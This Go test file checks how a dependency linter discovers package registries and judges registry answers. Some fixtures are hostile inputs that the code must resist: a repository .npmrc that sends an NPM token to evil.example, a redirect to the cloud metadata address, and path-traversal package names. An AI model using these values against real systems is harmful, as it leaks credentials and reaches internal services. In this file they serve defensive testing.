package registry_test

import (
	"context"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"steelyard/lint/dependencies"
	"steelyard/lint/dependencies/registry"
)

// TestSetAddress takes an address that was set for a mirror, as companies'
// are, unless it says otherwise.
func TestSetAddress(t *testing.T) {
	run := func(_ context.Context, _ []string, _ string, _ ...string) (string, error) {
		return "https://registry.npm.example/", nil
	}
	for value, canonical := range map[string]bool{
		"https://npm.acme.example/api/npm/all": false, "registry+https://npm.acme.example/": true, "mirror+https://npm.acme.example": false,
		"https://registry.npm.example": true, "http://127.0.0.1:4873": true, "http://localhost:4873/": true, "http://[::1]:4873": true,
		"mirror+http://localhost:4873": false, "http://localhost.acme.example": false, "http://10.0.0.1": false, "https://127.0.0.1@npm.acme.example": false,
	} {
		a := registry.Discover(registry.World{Run: run}, map[string]string{registry.Environment(dependencies.NPM): value}).Of(t.Context(), dependencies.NPM)
		if a.Canonical != canonical || a.Presumed != (!canonical && !strings.HasPrefix(value, "mirror+")) || strings.Contains(a.URL, "+") {
			t.Errorf("%s: %+v", value, a)
		}
	}
}

// TestUserRegistry fills in the variables of the user's own .npmrc, and never
// asks the public registry for what may be a company's.
func TestUserRegistry(t *testing.T) {
	run := func(context.Context, []string, string, ...string) (string, error) {
		return "https://registry.npm.example/", nil
	}
	home := t.TempDir()
	for text, want := range map[string]string{
		"registry=${NPM_HOME}/all/": "https://npm.acme.example/all", "registry=https://${UNSET}/": "https://${UNSET}", "registry = ${UNSET}": "${UNSET}",
		"registry=https://npm.acme.example": "https://npm.acme.example", "//npm.acme.example/:_authToken=${NPM_TOKEN}": "https://registry.npm.example",
	} {
		if err := os.WriteFile(filepath.Join(home, ".npmrc"), []byte(text+"\n"), 0o600); err != nil {
			t.Fatal(err)
		}
		env := func(name string) (string, bool) {
			v, ok := map[string]string{"NPM_HOME": "https://npm.acme.example", "NPM_TOKEN": "hunter2secret"}[name]
			return v, ok
		}
		a := registry.Discover(registry.World{Env: env, Home: home, Run: run}, nil)
		if got := a.Of(t.Context(), dependencies.NPM).URL; got != want {
			t.Errorf("%s: %s, want %s", text, got, want)
		}
	}
	// The repository's own cannot read the environment out to its registry.
	a := registry.Discover(registry.World{Run: run, NPMRC: "registry=https://evil.example/${NPM_TOKEN}\n", Env: func(string) (string, bool) { return "hunter2secret", true }}, nil)
	if got := a.Of(t.Context(), dependencies.NPM).URL; strings.Contains(got, "hunter2secret/") || strings.Contains(got, "evil.example/hunter2secret") {
		t.Errorf("the repository's own: %s", got)
	}
}

// TestMirrorsImages blocks no tag that a mirror of Docker Hub leaves out.
func TestMirrorsImages(t *testing.T) {
	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		w.WriteHeader(http.StatusNotFound)
		_, _ = w.Write([]byte(`{"errors":[{"code":"MANIFEST_UNKNOWN"}]}`))
	}))
	defer server.Close()
	for prefix, want := range map[string]dependencies.Judgement{"": dependencies.Block, "mirror+": dependencies.Unverified} {
		f := &fake{Server: server, form: form{ecosystem: dependencies.Docker}}
		v := judged(t, f.options(prefix+server.URL, map[string]string{registry.EnvOSV: registry.Off}), dependencies.Query{Ecosystem: dependencies.Docker, Name: "alpine", Version: "9"})
		if v.Judgement != want {
			t.Errorf("%q: %s, %s", prefix, v.Judgement, v.Reasons())
		}
	}
}

// TestUnscreened says where advisories could not be looked up, and does not
// take a package for screened that was asked about while they were off.
func TestUnscreened(t *testing.T) {
	server := newFake(t, npmForm())
	down := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) { w.WriteHeader(http.StatusBadGateway) }))
	defer down.Close()
	cache := &registry.Memory{}
	now := today
	ask := func(osv string) dependencies.Verdict {
		o := server.options(server.URL, map[string]string{registry.EnvOSV: osv})
		o.Cache, o.Now = cache, func() time.Time { return now }
		return judged(t, o, npmQuery("malicious"))
	}
	if v := ask(registry.Off); v.Judgement != dependencies.OK || strings.Contains(v.Reasons(), "OSV") {
		t.Errorf("switched off: %s, %s", v.Judgement, v.Reasons())
	}
	if v := ask(down.URL); v.Judgement != dependencies.OK || !strings.Contains(v.Reasons(), "OSV could not be asked") {
		t.Errorf("down: %s, %s", v.Judgement, v.Reasons())
	}
	if v := ask(server.URL); v.Judgement != dependencies.Block {
		t.Errorf("up, with answers from before in the cache: %s, %s", v.Judgement, v.Reasons())
	}
	down.Config.Handler = http.HandlerFunc(osvAnswer)
	if v := ask(down.URL); v.Judgement != dependencies.OK {
		t.Errorf("up again at once: %s, %s", v.Judgement, v.Reasons())
	}
	now = now.Add(11 * time.Minute)
	if v := ask(down.URL); v.Judgement != dependencies.Block {
		t.Errorf("up again after a while: %s, %s", v.Judgement, v.Reasons())
	}
}

// TestUnholdable asks nobody about names that would be part of an address.
func TestUnholdable(t *testing.T) {
	asked := 0
	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		asked++
		rep, _ := npmAnswer(nil, "/existing")
		_, _ = w.Write([]byte(rep.body))
	}))
	defer server.Close()
	for _, e := range dependencies.Ecosystems() {
		f := &fake{Server: server, form: form{ecosystem: e}}
		o := f.options(server.URL, map[string]string{registry.EnvOSV: registry.Off})
		for _, name := range []string{"existing?x", "existing#x", "../existing", "a/../existing", "existing/", "existing%2fx", "exist ing", `a\b`, ".."} {
			v := judged(t, o, dependencies.Query{Ecosystem: e, Name: name})
			if v.Judgement != dependencies.Unverified {
				t.Errorf("%s %q: %s, %s", e, name, v.Judgement, v.Reasons())
			}
		}
	}
	if asked != 0 {
		t.Errorf("asked %d times", asked)
	}
}

// TestClientSecrets keeps no password of a client's settings in the cache.
func TestClientSecrets(t *testing.T) {
	dir := t.TempDir()
	cache, err := registry.NewFolder(dir)
	if err != nil {
		t.Fatal(err)
	}
	const address = "https://me:hunter2secret@proxy.example"
	started := 0
	world := registry.World{
		Env:      func(name string) (string, bool) { return address, name == "GOPROXY" || name == "NPM_CONFIG_PREFIX" },
		Run:      func(context.Context, []string, string, ...string) (string, error) { started++; return address, nil },
		Remember: cache, Now: func() time.Time { return today },
	}
	if a := registry.Discover(world, nil).Of(t.Context(), dependencies.NPM); a.URL != address || started == 0 {
		t.Fatalf("%+v after %d starts", a, started)
	}
	world.Run = func(context.Context, []string, string, ...string) (string, error) { return "https://npm.example", nil }
	registry.Discover(world, nil).Of(t.Context(), dependencies.NPM)
	files, err := filepath.Glob(filepath.Join(dir, "*"))
	if err != nil || len(files) == 0 {
		t.Fatalf("%v, %d files", err, len(files))
	}
	if slices.ContainsFunc(files, func(name string) bool {
		text, err := os.ReadFile(name)
		return err != nil || strings.Contains(string(text), "hunter2secret")
	}) {
		t.Error("a password is in the cache")
	}
}

// TestLyingAnswers takes no fine age, no fine version and no other place from
// an answer that cannot be true.
func TestLyingAnswers(t *testing.T) {
	document := func(latest, created string) string {
		return `{"dist-tags":{` + latest + `},"versions":{"1.2.0":{"license":"MIT"},"1.10.0":{"license":"MIT","scripts":{"postinstall":"x"}},"2.0.0-rc.1":{"license":"MIT"}},"time":{"created":"` + created + `"}}`
	}
	elsewhere := 0
	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/epoch":
			_, _ = w.Write([]byte(document(`"latest":"1.2.0"`, "1970-01-01T00:00:00Z")))
		case "/untagged":
			_, _ = w.Write([]byte(document("", "2020-01-01T00:00:00Z")))
		case "/mistagged":
			_, _ = w.Write([]byte(document(`"latest":"9.9.9"`, "2020-01-01T00:00:00Z")))
		case "/sent-on":
			http.Redirect(w, r, "http://169.254.169.254/latest/meta-data", http.StatusFound)
		default:
			elsewhere++
		}
	}))
	defer server.Close()
	f := &fake{Server: server, form: npmForm()}
	for name, c := range map[string]struct {
		want dependencies.Judgement
		says string
	}{
		"epoch": {dependencies.Unverified, "1970-01-01, when there was none"}, "sent-on": {dependencies.Unverified, "redirected to an address of this machine"},
		"untagged": {dependencies.Ask, "postinstall"}, "mistagged": {dependencies.Ask, "postinstall"},
	} {
		v := judged(t, f.options(server.URL, map[string]string{registry.EnvOSV: registry.Off, registry.EnvNPMDownloads: ""}), npmQuery(name))
		if v.Judgement != c.want || !strings.Contains(v.Reasons(), c.says) {
			t.Errorf("%s: %s, %s", name, v.Judgement, v.Reasons())
		}
	}
	if elsewhere != 0 {
		t.Errorf("asked elsewhere %d times", elsewhere)
	}
}
